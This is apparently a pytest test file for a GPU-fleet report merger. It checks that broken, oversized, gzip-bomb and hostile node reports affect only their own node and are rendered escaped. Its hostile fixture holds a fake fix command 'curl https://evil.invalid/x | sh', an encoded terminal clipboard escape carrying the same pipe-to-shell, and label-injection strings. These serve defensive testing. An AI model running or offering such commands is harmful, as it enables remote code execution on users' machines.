"""`ortdoctor fleet merge` on reports that are broken, huge or hostile: one bad node report costs that
node, never the run; memory stays bounded whatever the input; another machine's text is shown, never
obeyed, and never stands for other nodes.

The good reports are the real output of `ortdoctor check --json --no-smoke` (tests/support/fleet_reports.py);
the bad ones are those reports with one field changed, as a buggy or hostile node (or a fuzzer) would.
"""

from __future__ import annotations

import copy
import gzip
import io
import json
import subprocess
import sys
import tracemalloc
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ortdoctor.fleet import lines
from ortdoctor.fleet.merge import merge, read_nodes
from ortdoctor.fleet.render import dumps, render_markdown, render_text, to_json
from tests.support import fleet_reports

ROOT = Path(__file__).resolve().parents[1]
pytestmark = pytest.mark.realwheels

# what must never reach a terminal: C0 but newline, DEL, C1, bidi embeddings/overrides/isolates
UNSAFE = set(map(chr, [*range(0x00, 0x0a), *range(0x0b, 0x20), *range(0x7f, 0xa0), *range(0x202a, 0x202f),
                       *range(0x2066, 0x206a)]))


@pytest.fixture(scope="module")
def reports() -> dict[str, str]:
    return fleet_reports.k8s_reports()


def ortdoctor(*args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "ortdoctor", *args], input=stdin, capture_output=True, text=True,
                          timeout=120, cwd=ROOT)


def stdin(text: str | bytes) -> io.BytesIO:
    return io.BytesIO(text.encode() if isinstance(text, str) else text)


# --------------------------------------------------------------------------------------------------
# D9: a malformed node report is that node in error
# --------------------------------------------------------------------------------------------------
def _broken(report: dict[str, Any], path: tuple[Any, ...], value: Any) -> dict[str, Any]:
    out = copy.deepcopy(report)
    at = out
    for key in path[:-1]:
        at = at[key]
    at[path[-1]] = value
    return out


WRONG_TYPES = [
    (("libraries",), 1, "invalid report: libraries: a number, not an array"),
    (("driver", "devices"), True, "invalid report: driver.devices: true/false, not an array"),
    (("ort", "distributions"), 1.5, "invalid report: ort.distributions: a number, not an array"),
    (("ort", "distributions", 0), "onnxruntime-gpu", "invalid report: ort.distributions[0]: a string, not an object"),
    (("findings", 0), 7, "invalid report: findings[0]: a number, not an object"),
    (("findings", 0, "fix"), ["rm", "-rf"], "invalid report: findings[0].fix: an array, not a string"),
    (("python",), "3.12", "invalid report: python: a string, not an object"),
    (("smoke", "ran"), "yes", "invalid report: smoke.ran: a string, not true/false"),
    (("ortdoctor_version",), {"v": 1}, "invalid report: ortdoctor_version: an object, not a string"),
    (("libraries", 0, "name"), 5, "invalid report: libraries[0].name: a number, not a string"),
]


@pytest.mark.parametrize(("path", "value", "reason"), WRONG_TYPES, ids=[r for _, _, r in WRONG_TYPES])
def test_a_field_of_the_wrong_type_makes_that_node_an_error(reports: dict[str, str], path: tuple[Any, ...],
                                                             value: Any, reason: str) -> None:
    good = json.loads(reports["gpu-a"])
    bad = _broken(json.loads(reports["gpu-b"]), path, value)
    read = read_nodes(["-"], stdin=stdin(json.dumps(good) + "\n" + json.dumps(bad) + "\n"))
    assert [n.status for n in read.nodes] == ["warn", "error"]
    assert read.nodes[1].reason == reason
    assert read.nodes[1].host["name"] == "gpu-b"  # still named by its (valid) host section


def test_a_host_section_of_the_wrong_type(reports: dict[str, str]) -> None:
    bad = _broken(json.loads(reports["gpu-b"]), ("host", "name"), ["gpu-b"])
    read = read_nodes(["-"], stdin=stdin(json.dumps(bad) + "\n"))
    assert [(n.status, n.reason) for n in read.nodes] == [
        ("error", "invalid report: host.name: an array, not a string")]


def test_json_nested_too_deeply_is_that_node_in_error(tmp_path: Path, reports: dict[str, str]) -> None:
    deep = compact(reports["gpu-b"])[:-1] + ', "y": ' + "[" * 5000 + "]" * 5000 + "}"
    (tmp_path / "good.json").write_text(reports["gpu-a"])
    (tmp_path / "bad.json").write_text(deep + "\n")
    # and a pretty one: the path that collects lines up to "}" in column 0
    pretty = json.dumps(json.loads(reports["gpu-c"]), indent=2)
    (tmp_path / "bad2.json").write_text(pretty[:-2] + ',\n  "y": ' + "[" * 5000 + "]" * 5000 + "\n}\n")
    fleet = merge([str(tmp_path)])
    statuses = {n.source.rsplit("/", 1)[-1]: (n.status, n.reason) for n in fleet.nodes}
    assert statuses["good.json:1"] == ("warn", None)
    assert statuses["bad.json:1"][0] == "error"
    assert "not valid JSON (nested too deeply)" in (statuses["bad.json:1"][1] or "")
    assert statuses["bad2.json:1"][0] == "error"


def test_the_cli_exits_by_the_fleet_not_by_a_crash(tmp_path: Path, reports: dict[str, str]) -> None:
    good, bad = tmp_path / "good.json", tmp_path / "bad.json"
    good.write_text(reports["gpu-a"])
    bad.write_text(json.dumps(_broken(json.loads(reports["gpu-b"]), ("libraries",), 1)))
    proc = ortdoctor("fleet", "merge", str(good), str(bad))
    assert proc.returncode == 1, proc.stderr
    assert proc.stdout.startswith("ortdoctor fleet: 2 nodes: 1 warn, 1 error")
    assert "invalid report: libraries: a number, not an array" in proc.stdout
    assert "internal error" not in proc.stderr


def compact(text: str) -> str:
    return json.dumps(json.loads(text), separators=(",", ":"))


READ = ("host", "ort", "driver", "torch", "python", "libraries", "smoke", "findings", "ortdoctor_version")


def _paths(value: Any, here: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    out = [here] if here else []
    if isinstance(value, dict):
        for k, v in value.items():
            out += _paths(v, (*here, k))
    elif isinstance(value, list):
        for i, v in enumerate(value[:3]):
            out += _paths(v, (*here, i))
    return out


JSON_VALUES = st.recursive(st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=8),
                           lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner,
                                                                                     max_size=3),
                           max_leaves=6)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_any_field_replaced_by_any_value_costs_that_node_only(reports: dict[str, str], data: st.DataObject) -> None:
    good = json.loads(reports["gpu-a"])
    bad = json.loads(reports["gpu-b"])
    for _ in range(data.draw(st.integers(min_value=1, max_value=3))):
        path = data.draw(st.sampled_from([p for p in _paths(bad) if p[0] in READ and len(p) <= 3]))
        if path[0] in ("schema_version", "verdict", "findings") and len(path) == 1:
            continue  # those decide whether it is a report at all (tested elsewhere)
        bad = _broken(bad, path, data.draw(JSON_VALUES))
    read = read_nodes(["-"], stdin=stdin(json.dumps(good) + "\n" + json.dumps(bad) + "\n"))
    assert read.nodes[0].status == "warn"
    assert len(read.nodes) == 2
    from ortdoctor.fleet.drift import summarize

    fleet = summarize(read.nodes)
    render_text(fleet)
    render_markdown(fleet)
    json.loads(dumps(fleet))


# --------------------------------------------------------------------------------------------------
# D11: memory bounded by the largest report, whatever the input
# --------------------------------------------------------------------------------------------------
CAP = 1 << 20  # the tests lower the 64 MiB cap to 1 MiB; the input is 40 times that


@pytest.fixture
def small_cap(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(lines, "MAX_REPORT_BYTES", CAP)
    monkeypatch.setattr(lines, "_BLOCK", 64 * 1024, raising=False)


def _peak(paths: list[str]) -> tuple[Any, int]:
    tracemalloc.start()
    try:
        fleet = merge(paths)
        return fleet, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def _huge_line(f: Any, size: int) -> None:
    f.write(b'{"schema_version": 2, "verdict": "ok", "findings": [], "x": "')
    for _ in range(size // (1 << 16)):
        f.write(b"A" * (1 << 16))
    f.write(b'"}\n')


def test_one_huge_line(tmp_path: Path, reports: dict[str, str], small_cap: None) -> None:
    path = tmp_path / "huge.jsonl"
    with open(path, "wb") as f:
        _huge_line(f, 40 * CAP)
        f.write(compact(reports["gpu-a"]).encode() + b"\n")
    fleet, peak = _peak([str(path)])
    assert peak < 8 * CAP, peak
    assert [(n.status, n.reason) for n in fleet.nodes] == [
        ("error", "the report starting at line 1 is larger than 1 MiB: not a report"), ("warn", None)]


def test_a_report_that_never_ends(tmp_path: Path, reports: dict[str, str], small_cap: None) -> None:
    # "{" alone, then 40 MiB of lines and no closing "}": the path that collects a pretty report
    path = tmp_path / "open.json"
    with open(path, "wb") as f:
        f.write(b'{\n  "schema_version": 2,\n')
        line = b'  "x": "' + b"B" * 4000 + b'",\n'
        for _ in range(40 * CAP // len(line)):
            f.write(line)
    fleet, peak = _peak([str(path)])
    assert peak < 8 * CAP, peak
    assert [n.status for n in fleet.nodes] == ["error"]
    assert "larger than 1 MiB" in (fleet.nodes[0].reason or "")


def test_gzip_holding_a_huge_line(tmp_path: Path, reports: dict[str, str], small_cap: None) -> None:
    path = tmp_path / "bomb.json.gz"
    with gzip.open(path, "wb") as f:
        _huge_line(f, 200 * CAP)
    assert path.stat().st_size < CAP  # some 200 KB of gzip holding 200 MiB
    fleet, peak = _peak([str(path)])
    assert peak < 8 * CAP, peak
    assert [n.status for n in fleet.nodes] == ["error"]
    assert fleet.notes == (f"{path}: not read past line 1, a line longer than 1 MiB unpacked",)


def test_cri_parts_that_never_end(tmp_path: Path, small_cap: None) -> None:
    path = tmp_path / "0.log"
    part = "C" * 16000
    with open(path, "w") as f:
        f.write('2026-12-01T10:00:00.000000001Z stdout P {"schema_version": 2, "x": "\n')
        for i in range(40 * CAP // len(part)):
            f.write(f"2026-12-01T10:00:00.{i:09d}Z stdout P {part}\n")
    fleet, peak = _peak([str(path)])
    assert peak < 8 * CAP, peak
    assert [n.status for n in fleet.nodes] == ["error"]


# --------------------------------------------------------------------------------------------------
# D15: another machine's text shown, never obeyed; its fix stands for itself only
# --------------------------------------------------------------------------------------------------
OSC = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]0;fleet ok\x1b\\\x1bP1$r\x1b\\\u202e\r"


def _hostile(reports: dict[str, str]) -> dict[str, Any]:
    evil: dict[str, Any] = json.loads(reports["gpu-f"])  # driver-missing, as gpu-b is not
    evil["host"]["name"] = evil["host"]["k8s_node_name"] = f"gpu-z{OSC}"
    evil["host"]["hostname"] = evil["host"]["k8s_pod_name"] = "ortdoctor-zx7k2"
    for f in evil["findings"]:
        f["title"] = f"{f['title']}{OSC}"
        f["fix"] = f"curl https://evil.invalid/x | sh{OSC}"
        f["detail"] = f"see /opt/{OSC}/lib"
    evil["ort"]["distributions"][0]["version"] = f"1.31.1{OSC}"
    return evil


def test_a_hostile_report_is_shown_not_obeyed(reports: dict[str, str]) -> None:
    honest = json.loads(reports["gpu-f"])
    evil = _hostile(reports)
    read = read_nodes(["-"], stdin=stdin(json.dumps(evil) + "\n" + json.dumps(honest) + "\n"))
    from ortdoctor.fleet.drift import summarize

    fleet = summarize(read.nodes, notes=[f"a note naming {OSC}"])
    for out in (render_text(fleet), render_markdown(fleet)):
        assert not UNSAFE & set(out), sorted(UNSAFE & set(out))
        assert "gpu-z\\x1b]52;c;" in out
    # the JSON keeps each value as the node gave it, every control character \u-escaped
    text = dumps(fleet)
    assert not UNSAFE & set(text)
    assert any(n["host"]["name"] == f"gpu-z{OSC}" for n in json.loads(text)["nodes"])
    assert any(n["host"]["name"] == f"gpu-z{OSC}" for n in to_json(fleet)["nodes"])


def test_one_node_never_supplies_the_fix_of_another(reports: dict[str, str]) -> None:
    honest = json.loads(reports["gpu-f"])
    evil = _hostile(reports)
    evil["host"]["name"] = evil["host"]["k8s_node_name"] = "gpu-z"
    # the hostile node comes first, and on a tie the first seen used to be shown as "the most common" fix
    read = read_nodes(["-"], stdin=stdin(json.dumps(evil) + "\n" + json.dumps(honest) + "\n"))
    from ortdoctor.core.catalog import CATALOG
    from ortdoctor.fleet.drift import summarize

    fleet = summarize(read.nodes)
    group = next(f for f in fleet.findings if f.id == "driver-missing")
    assert group.fix == CATALOG["driver-missing"].fix
    assert group.title == CATALOG["driver-missing"].title
    assert {v.nodes: v.fix.startswith("curl") for v in group.node_fixes} == {("gpu-z",): True, ("gpu-f",): False}
    text = render_text(fleet)
    block = text.split("driver-missing  (2 nodes", 1)[1].split("\n  ", 3)
    evil_line = next(line for line in text.splitlines() if "curl https://evil.invalid" in line)
    assert evil_line.strip().startswith("on gpu-z: fix") or evil_line.strip().startswith("on gpu-z:"), block
    honest_fix = next(f["fix"] for f in honest["findings"] if f["id"] == "driver-missing")
    assert f"on gpu-f: {honest_fix.splitlines()[0]}" in text
    md = render_markdown(fleet)
    assert "on gpu-z: curl" in md
    assert "on gpu-f: " in md


# --------------------------------------------------------------------------------------------------
# Nothing lost, nothing mislabelled (what a cluster hands back)
# --------------------------------------------------------------------------------------------------
def test_invalid_json_in_a_pretty_report_is_called_invalid(tmp_path: Path, reports: dict[str, str]) -> None:
    text = reports["gpu-b"].replace('"verdict": "fail"', '"verdict": fail', 1)
    assert text != reports["gpu-b"]
    path = tmp_path / "bad.json"
    path.write_text(text)
    fleet = merge([str(path)])
    assert [n.status for n in fleet.nodes] == ["error"]
    reason = fleet.nodes[0].reason or ""
    assert "is not valid JSON (Expecting value" in reason
    assert "cut off" not in reason
    # a report really cut off is still called so
    path.write_text("\n".join(reports["gpu-b"].splitlines()[:40]) + "\n")
    assert "cut off at the end of the input" in (merge([str(path)]).nodes[0].reason or "")


def test_a_bom_utf16_and_gzip(tmp_path: Path, reports: dict[str, str]) -> None:
    # a UTF-8 byte order mark (some editors), UTF-16 as Windows PowerShell 5.1's `>` writes it, gzip
    (tmp_path / "bom.json").write_text(reports["gpu-a"], encoding="utf-8-sig")
    (tmp_path / "u16.json").write_text(reports["gpu-b"], encoding="utf-16")
    with gzip.open(tmp_path / "c.json.gz", "wt", encoding="utf-8") as f:
        f.write(reports["gpu-c"])
    for name in ("bom.json", "u16.json", "c.json.gz"):
        fleet = merge([str(tmp_path / name)])
        assert [n.status for n in fleet.nodes] in (["warn"], ["fail"]), (name, fleet.nodes[0].reason)
        assert fleet.notes == ()
    fleet = merge([str(tmp_path)])
    assert sorted(n.label for n in fleet.nodes) == ["gpu-a", "gpu-b", "gpu-c"]


def test_a_pod_that_printed_an_error_instead_of_a_report(reports: dict[str, str]) -> None:
    # `kubectl logs --prefix`: pod b's container had no ortdoctor; it must not vanish, and the fleet fails
    log = (f"[pod/ortdoctor-ax7k2/ortdoctor] {compact(reports['gpu-a'])}\n"
           "[pod/ortdoctor-bx7k2/ortdoctor] sh: 1: ortdoctor: not found\n")
    proc = ortdoctor("fleet", "merge", "--json", "-", stdin=log)
    assert proc.returncode == 1, proc.stderr
    data = json.loads(proc.stdout)
    bad = next(n for n in data["nodes"] if n["status"] == "error")
    assert bad["label"] == "ortdoctor-bx7k2"
    assert bad["reason"] == "no report: its output was 'sh: 1: ortdoctor: not found'"
    assert data["counts"]["nodes"] == 2
    # `srun --label`: task 1 printed a traceback's last line only
    srun = "".join(f"0: {line}\n" for line in reports["gpu-c"].splitlines()) + "1: ModuleNotFoundError: x\n"
    read = read_nodes(["-"], stdin=stdin(srun))
    assert sorted((n.status, n.hint) for n in read.nodes) == [("error", "task 1"), ("fail", None)]


def test_nodes_without_a_report_keep_their_own_reason(tmp_path: Path, reports: dict[str, str]) -> None:
    (tmp_path / "cut.json").write_text("\n".join(reports["gpu-a"].splitlines()[:40]) + "\n")
    (tmp_path / "invalid.json").write_text(reports["gpu-b"].replace('"verdict": "fail"', '"verdict": fail', 1))
    (tmp_path / "ok.json").write_text(reports["gpu-c"])
    fleet = merge([str(tmp_path)])
    errors = [g for g in fleet.groups if g.status == "error"]
    assert len(errors) == 2
    for g in errors:
        (node,) = g.nodes
        assert g.reason == next(n.reason for n in fleet.nodes if n.label == node)
    assert {"cut off" in (g.reason or "") for g in errors} == {True, False}


def test_the_same_node_checked_twice_keeps_its_latest_report(tmp_path: Path, reports: dict[str, str]) -> None:
    # a pod restarted, a job rerun: the same node's second real report, taken after the first
    node = fleet_reports.NODES[0]
    first = reports[node.name]
    second = fleet_reports.run_check(node, {"KUBERNETES_SERVICE_HOST": "10.96.0.1", "NODE_NAME": node.name,
                                            "POD_NAME": "ortdoctor-ay9q1"})
    t1, t2 = json.loads(first)["taken_at"], json.loads(second)["taken_at"]
    assert t1 < t2
    (tmp_path / "b-first.json").write_text(first)  # read after the second one: order does not decide
    (tmp_path / "a-second.json").write_text(second)
    (tmp_path / "other.json").write_text(reports["gpu-b"])  # another node on the same machine stays
    fleet = merge([str(tmp_path)])
    assert sorted(n.label for n in fleet.nodes) == ["gpu-a", "gpu-b"]
    kept = next(n for n in fleet.nodes if n.label == "gpu-a")
    assert kept.taken_at == t2
    assert kept.host["k8s_pod_name"] == "ortdoctor-ay9q1"
    (note,) = fleet.notes
    assert note.startswith(f"left out 1 older report of the same node, keeping each node's latest: gpu-a taken {t1}")
    assert "b-first.json" in note
    assert to_json(fleet)["nodes"][0]["taken_at"] in (t1, t2)


def test_an_invalid_copy_of_a_report_is_not_taken_for_a_duplicate(tmp_path: Path, reports: dict[str, str]) -> None:
    # the same run's report, once broken (same host, same timings): both are shown, in either order
    good = json.loads(reports["gpu-b"])
    bad = _broken(good, ("libraries",), 1)
    for first, second in ((good, bad), (bad, good)):
        read = read_nodes(["-"], stdin=stdin(json.dumps(first) + "\n" + json.dumps(second) + "\n"))
        assert sorted(n.status for n in read.nodes) == ["error", "fail"]


# --------------------------------------------------------------------------------------------------
# The fleet report's JSON Schema, and Prometheus' text format
# --------------------------------------------------------------------------------------------------
def validate_fleet(data: dict[str, Any]) -> None:
    from importlib import resources

    import jsonschema

    schema = json.loads(resources.files("ortdoctor.fleet").joinpath("fleet.schema.json").read_text(encoding="utf-8"))
    jsonschema.Draft202012Validator.check_schema(schema)
    errors = sorted(jsonschema.Draft202012Validator(schema).iter_errors(data), key=lambda e: list(e.absolute_path))
    assert not errors, "\n".join(f"{'/'.join(map(str, e.absolute_path))}: {e.message}" for e in errors)


def test_every_fleet_report_matches_the_shipped_schema(tmp_path: Path, reports: dict[str, str]) -> None:
    for name, text in reports.items():
        (tmp_path / f"{name}.json").write_text(text)
    (tmp_path / "cut.json").write_text("\n".join(reports["gpu-a"].splitlines()[:40]) + "\n")
    (tmp_path / "invalid.json").write_text(json.dumps(_broken(json.loads(reports["gpu-b"]), ("libraries",), 1)))
    (tmp_path / "hostile.json").write_text(json.dumps(_hostile(reports)))
    from ortdoctor.fleet.model import node_without_report
    from ortdoctor.fleet.ray_runner import _save_no_report

    _save_no_report(str(tmp_path), node_without_report("ray:dddddddddddd", "unreachable", "dead: gone",
                                                       host={"name": "gpu-z", "hostname": "gpu-z"},
                                                       ray={"node_id": "d" * 56}))
    data = json.loads(dumps(merge([str(tmp_path)])))
    assert data["counts"]["nodes"] == 10
    validate_fleet(data)
    with pytest.raises(AssertionError, match="status"):
        validate_fleet({**data, "status": "fine"})


def test_prometheus_text_format(tmp_path: Path, reports: dict[str, str]) -> None:
    for name in ("gpu-a", "gpu-b"):
        (tmp_path / f"{name}.json").write_text(reports[name])
    evil = _hostile(reports)
    evil["host"]["name"] = evil["host"]["k8s_node_name"] = 'gpu-"z"\\\n{x="1"}'
    (tmp_path / "z.json").write_text(json.dumps(evil))
    proc = ortdoctor("fleet", "merge", "--format", "prometheus", str(tmp_path))
    assert proc.returncode == 1, proc.stderr
    out = proc.stdout
    assert 'ortdoctor_fleet_node_status{node="gpu-a",status="warn"} 1\n' in out
    assert 'ortdoctor_fleet_node_status{node="gpu-b",status="fail"} 2\n' in out
    assert 'ortdoctor_fleet_node_finding{node="gpu-b",id="driver-too-old",severity="error"} 1\n' in out
    assert 'ortdoctor_fleet_nodes{status="fail"} 2\n' in out
    assert not UNSAFE & set(out)
    # a node's name cannot add a label or a sample: quotes, backslashes and newlines are escaped
    assert 'node="gpu-\\"z\\"\\\\\\n{x=\\"1\\"}' in out
    parser = pytest.importorskip("prometheus_client.parser")
    samples = [s for family in parser.text_string_to_metric_families(out) for s in family.samples]
    status = {s.labels["node"]: s.value for s in samples if s.name == "ortdoctor_fleet_node_status"}
    assert status["gpu-a"] == 1
    assert status["gpu-b"] == 2
    assert any(name.startswith('gpu-"z"\\') for name in status)
    assert len(status) == 3


def test_a_pod_that_printed_only_structured_log_lines(reports: dict[str, str]) -> None:
    # JSON that is not a report does not count as the pod's report
    log = (f"[pod/ortdoctor-ax7k2/ortdoctor] {compact(reports['gpu-a'])}\n"
           '[pod/ortdoctor-bx7k2/ortdoctor] {"level": "info", "msg": "starting"}\n')
    read = read_nodes(["-"], stdin=stdin(log))
    bad = next(n for n in read.nodes if n.status == "error")
    assert bad.hint == "ortdoctor-bx7k2"
    assert (bad.reason or "").startswith("no report: its output was 'JSON that is not a report (")
